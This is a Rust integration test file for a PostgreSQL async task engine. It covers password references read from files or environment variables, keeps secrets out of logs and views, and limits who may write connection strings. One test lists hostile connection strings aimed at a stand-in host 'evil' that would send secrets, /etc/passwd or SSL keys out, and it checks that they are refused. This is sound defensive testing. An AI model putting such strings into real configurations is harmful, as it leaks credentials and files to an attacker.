//! Passwords by reference, and who may write connection strings that use what belongs to the account
//! of the engine.

use std::fs;
use std::path::PathBuf;

use pgasync_tests::{Database, Engine, RustEngine, SqlEngine};
use serde_json::{Value, json};

use super::role::{Role, code, expect, run};

const PASSWORD: &str = "s3cret of the target";

/// A role that must give its password, and the string of a target that reaches the database as this
/// role.
struct Guarded {
    role: String,
    database: Database,
}

impl Guarded {
    async fn create() -> Self {
        let database = Database::create().await;
        let role = format!("guarded_{}", database.name());
        database
            .run(&format!(
                "do $$ begin create role with_password; exception when duplicate_object or unique_violation then null; end $$;
                 create role {role} login password '{PASSWORD}' in role with_password"
            ))
            .await;
        Self { role, database }
    }

    /// Configures targets with these passwords.
    async fn configure(&self, passwords: &[(&str, &str)]) {
        let string = |password: &str| {
            self.database.conninfo().replace("user=postgres", &format!("user={} password='{password}'", self.role))
        };
        let targets: Vec<Value> = passwords
            .iter()
            .map(|(target, password)| json!({ "target": target, "connection_string": string(password) }))
            .collect();
        self.database
            .configure(&json!({ "control": { "target_patience": "0.5 s", "idle_sleep": 0.05 }, "targets": targets }))
            .await;
    }

    async fn push(&self, target: &str) -> i64 {
        let sql = "select task_id from async.push_tasks(array[async.task('select session_user', $1)])";
        self.database.rows(sql, &[&target]).await[0].get(0)
    }

    async fn end_of(&self, task: i64) -> (String, Option<String>) {
        let ended = format!("select processed is not null from async.task where task_id = {task}");
        self.database.wait_for(&ended).await;
        let sql = "select finish_status::text, processing_error from async.task where task_id = $1";
        let rows = self.database.rows(sql, &[&task]).await;
        (rows[0].get(0), rows[0].get(1))
    }

    async fn drop(self) {
        self.database.run(&format!("drop role {}", self.role)).await;
    }
}

/// A folder of secrets.
fn secrets(name: &str) -> PathBuf {
    let folder = std::env::temp_dir().join(format!("pgasync-secrets-{}-{name}", std::process::id()));
    fs::create_dir_all(&folder).expect("a folder");
    fs::write(folder.join("shop"), format!("{PASSWORD}\n")).expect("a file");
    folder
}

#[tokio::test]
async fn the_rust_engine_reads_a_password_by_reference_when_it_connects() {
    let guarded = Guarded::create().await;
    guarded
        .configure(&[
            ("by_file", "${FILE:shop}"),
            ("by_variable", "${ENV:PGASYNC_SECRET_SHOP}"),
            ("no_file", "${FILE:other}"),
            ("no_variable", "${ENV:PGASYNC_SECRET_OTHER}"),
        ])
        .await;
    let folder = secrets("read");
    let mut engine = RustEngine::attach(&guarded.database);
    engine.set_variable("PGASYNC_SECRET_SHOP", PASSWORD);
    engine.start_with(&["--secrets-dir", folder.to_str().expect("UTF-8")]);
    engine.wait_until_leading().await;
    for target in ["by_file", "by_variable"] {
        let task = guarded.push(target).await;
        assert_eq!(guarded.end_of(task).await, ("FINISHED".to_owned(), None), "{target}");
    }
    for (target, why) in [
        ("no_file", "the password ${FILE:other} was not read: No such file"),
        ("no_variable", "the password ${ENV:PGASYNC_SECRET_OTHER} was not read: the variable is not set"),
    ] {
        let task = guarded.push(target).await;
        let (status, error) = guarded.end_of(task).await;
        assert!(status == "FAILED" && error.as_ref().is_some_and(|error| error.contains(why)), "{target}: {error:?}");
    }
    // A file that is written later is read without a restart.
    fs::write(folder.join("other"), PASSWORD).expect("a file");
    guarded.database.configure(&json!({ "control": { "target_patience": "1 hour" } })).await;
    let task = guarded.push("no_file").await;
    assert_eq!(guarded.end_of(task).await.0, "FINISHED");
    // The registry of sessions, the views and the log have no secret.
    guarded.database.assert_holds("select count(*) > 0 from async.session where connection_string like '%${%'").await;
    for table in ["async.session", "async.target", "async.v_target", "async.server_log", "async.v_target_state"] {
        let sql = format!("select count(*) = 0 from {table} t where t::text like '%s3cret%'");
        guarded.database.assert_holds(&sql).await;
    }
    engine.stop().await;
    assert!(!engine.lines().iter().any(|line| line.contains("s3cret")), "{:#?}", engine.lines());
    fs::remove_dir_all(folder).expect("the folder");
    guarded.drop().await;
}

#[tokio::test]
async fn tasks_of_a_target_with_a_reference_wait_for_the_rust_engine() {
    let guarded = Guarded::create().await;
    guarded.configure(&[("by_file", "${FILE:shop}"), ("plain", PASSWORD)]).await;
    let mut sql_engine = SqlEngine::attach(&guarded.database);
    sql_engine.lead().await;
    let waiting = guarded.push("by_file").await;
    guarded
        .database
        .wait_for(
            "select count(*) = 1 from async.v_why_waiting where target = 'by_file' and reason like 'needs pgasync run%'",
        )
        .await;
    // The patience ends for others meanwhile.
    guarded
        .database
        .run(
            "select async.configure('{\"targets\": [{\"target\": \"by_file\"}, {\"target\": \"plain\"},
        {\"target\": \"down\", \"connection_string\": \"host=127.0.0.1 port=1\"}]}')",
        )
        .await;
    let down = guarded.push("down").await;
    assert_eq!(guarded.end_of(down).await.0, "FAILED");
    let plain = guarded.push("plain").await;
    assert_eq!(guarded.end_of(plain).await.0, "FINISHED");
    guarded
        .database
        .assert_holds(&format!(
            "select consumed is null and processed is null from async.task where task_id = {waiting}"
        ))
        .await;
    guarded
        .database
        .assert_holds("select state = 'lost' and patience_ends is null and error like '%PA215%' from async.v_target_state where target = 'by_file'")
        .await;
    sql_engine.stop().await;
    let folder = secrets("wait");
    let mut engine = RustEngine::attach(&guarded.database);
    engine.start_with(&["--secrets-dir", folder.to_str().expect("UTF-8")]);
    assert_eq!(guarded.end_of(waiting).await, ("FINISHED".to_owned(), None));
    engine.stop().await;
    fs::remove_dir_all(folder).expect("the folder");
    guarded.drop().await;
}

/// The administrator would choose the host that the secret, the file or the identity is sent to.
#[tokio::test]
async fn only_the_owner_writes_strings_that_use_what_belongs_to_the_account_of_the_engine() {
    let server = Database::create().await;
    let admin = Role::create(&server, "admin").await;
    server.run(&format!("select async.grant_admin('{}')", admin.0)).await;
    let session = admin.connect(&server).await;
    let configure = |string: &str| {
        let document = json!({ "targets": [{ "target": "there", "connection_string": string }] });
        format!("select async.configure($${document}$$)")
    };
    for string in [
        "host=evil password=${ENV:PGASYNC_SECRET_SHOP}",
        "postgresql://u:${FILE:shop}@evil/d",
        "host=evil passfile=/etc/passwd",
        "postgresql://evil/d?passfile=/etc/passwd",
        "host=evil sslkey=/root/key",
        "host=evil sslcert=/root/cert",
        "host=evil sslkeylogfile=/tmp/keys",
        "service=shop",
        "host=evil servicefile=/tmp/services",
        "dbname=postgres user=postgres",
        "",
        "host=/var/run/postgresql",
        "host=@abstract",
        "host=evil,/var/run/postgresql",
        "host=evil,",
        "host=evil,/x hostaddr=1.2.3.4,",
        "host=,",
        "postgresql:///d",
        "postgresql://%2Ftmp/d",
    ] {
        let sql = configure(string);
        expect(string, code(&session, &sql).await.as_deref(), Some("PA084"));
        expect(string, code(server.session(), &sql).await.as_deref(), None);
        // What the owner wrote may be kept.
        expect(string, code(&session, &sql).await.as_deref(), None);
        server.run(&configure("host=fine")).await;
    }
    for string in
        ["host=fine", "hostaddr=1.2.3.4", "host=/x hostaddr=1.2.3.4", "postgresql://u:p@fine/d", "host=a,b port=1,2"]
    {
        expect(string, code(&session, &configure(string)).await.as_deref(), None);
    }
    admin.drop_from(&[&server]).await;
}

/// A setting that a document does not name keeps its value, so it is not written.
#[tokio::test]
async fn an_administrator_configures_a_target_of_the_owner_without_its_string() {
    let server = Database::create().await;
    let admin = Role::create(&server, "admin").await;
    server.run(&format!("select async.grant_admin('{}')", admin.0)).await;
    let session = admin.connect(&server).await;
    let configure = |document: Value| format!("select async.configure($${}$$)", json!({ "targets": [document] }));
    let string = "select connection_string from async.target where target = 'there'";
    for written in ["host=fine password=${FILE:shop}", "dbname=postgres", "host=fine"] {
        server.run(&configure(json!({ "target": "there", "connection_string": written }))).await;
        for (document, refused) in [
            (json!({ "target": "there", "max_workers": 3 }), None),
            (json!({ "target": "there", "connection_string": null, "max_workers": 4 }), None),
            (json!({ "target": "there", "connection_string": "" }), Some("PA084")),
            (json!({ "target": "pulled", "asynchronous_finish": true }), None),
        ] {
            let sql = configure(document);
            expect(&sql, code(&session, &sql).await.as_deref(), refused);
        }
        assert_eq!(server.text(string).await.as_deref(), Some(written));
    }
    admin.drop_from(&[&server]).await;
}

#[tokio::test]
async fn the_server_of_a_client_database_has_no_reference() {
    let database = Database::create().await;
    let admin = Role::create(&database, "admin").await;
    database.run(&format!("select async.grant_admin('{}')", admin.0)).await;
    let session = admin.connect(&database).await;
    for (string, of_admin, of_owner) in [
        ("host=h password=${FILE:a}", Some("PA001"), Some("PA001")),
        ("host=h options=${FILE:a}", Some("PA001"), Some("PA001")),
        ("host=h passfile=/x", Some("PA084"), None),
        ("dbname=d", Some("PA084"), None),
        ("host=h password=p", None, None),
    ] {
        let sql = format!("select async.server($${string}$$)");
        expect(string, code(&session, &sql).await.as_deref(), of_admin);
        expect(string, code(database.session(), &sql).await.as_deref(), of_owner);
    }
    run(&session, "select async.server('host=h')").await;
    admin.drop_from(&[&database]).await;
}
